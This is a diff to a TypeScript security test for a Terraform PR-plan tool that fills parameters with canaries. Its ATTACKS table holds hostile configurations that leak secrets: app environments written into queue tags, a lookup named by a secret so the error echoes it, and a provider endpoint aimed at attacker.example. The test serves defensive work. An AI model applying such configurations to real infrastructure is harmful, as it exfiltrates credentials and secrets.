@@ -7,6 +7,7 @@ import { buildApp } from "../../stacks/build";
 import { bootstrapPlatform } from "../../offline/bootstrap";
 import { Rehearsal, runProcess } from "../../offline/harness";
 import type { PlatformData } from "../../offline/standin/platform";
+import { onFoundationAllowingConfig } from "../fixtures/foundation";
 import { parsePlan } from "../../plan/plan-json";
 import { prPlan, renderResultText, type PrPlanResult } from "../../offline/pr-plan";
 import { renderComment } from "../../offline/pr-comment";
@@ -64,7 +65,7 @@ setupOnce(async () => {
   committed = JSON.parse(fs.readFileSync(path.join(synthDir, "stacks", ENV, "cdk.tf.json"), "utf8"));
 
   // The live side: every parameter holds a canary; the environment is deployed by real Terraform.
-  const platform: PlatformData = bootstrapPlatform(env);
+  const platform: PlatformData = onFoundationAllowingConfig(bootstrapPlatform(env));
   for (const [name, p] of Object.entries(platform.aws.parameters)) (p as { value: string }).value = canary(`ssm${name.replace(/\W/g, "")}`);
   const r = await Rehearsal.start(ROOT, synthDir, { [ENV]: platform }, { inherit: process.env, work: path.join(work, "live") });
   try {
@@ -233,7 +234,9 @@ const ATTACKS: Record<string, (c: any) => void> = {
     c.resource.aws_sqs_queue.tagged = { name: "production-tagged", tags: { s: `\${jsonencode([for a in data.cloudfoundry_apps.live.apps : a.environment])}` } };
   },
   "a lookup named by a secret: the provider's not-found error repeats the name": (c) => {
-    c.data.cloudfoundry_app.byname = { name: `\${nonsensitive(${secretRef(c)})}`, space_name: env.space, org_name: env.org };
+    // cloudfoundry_domain's miss says "Given name <name> not in the list of domains." (datasource_domain.go:118-123);
+    // cloudfoundry_app's does not repeat the name (semantics row 70).
+    c.data.cloudfoundry_domain.byname = { name: `\${nonsensitive(${secretRef(c)})}` };
   },
   "a second provider configuration with the attacker's URL, and nonsensitive followed by a tab": (c) => {
     c.provider.aws = [...[].concat(c.provider.aws), { alias: "attacker", region: "eu-west-1", endpoints: [{ sqs: "https://attacker.example" }] }];
